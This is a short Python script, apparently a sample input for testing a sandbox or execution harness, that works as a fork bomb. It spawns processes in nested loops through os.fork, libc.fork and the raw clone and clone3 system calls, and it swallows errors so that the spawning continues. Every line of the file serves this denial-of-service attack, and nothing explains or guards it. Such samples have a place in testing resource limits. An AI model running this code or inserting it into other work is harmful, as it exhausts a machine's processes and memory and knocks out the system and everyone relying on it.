"""Fork without end."""

# honest: typical
# %% extra
import ctypes
import os

for _ in range(1000):
    try:
        os.fork()
    except OSError:
        pass
libc = ctypes.CDLL(None)
for _ in range(1000):
    libc.fork()
    libc.vfork
    libc.syscall(56, 17, 0, 0, 0, 0)  # clone(SIGCHLD)
    libc.syscall(435, 0, 0)  # clone3
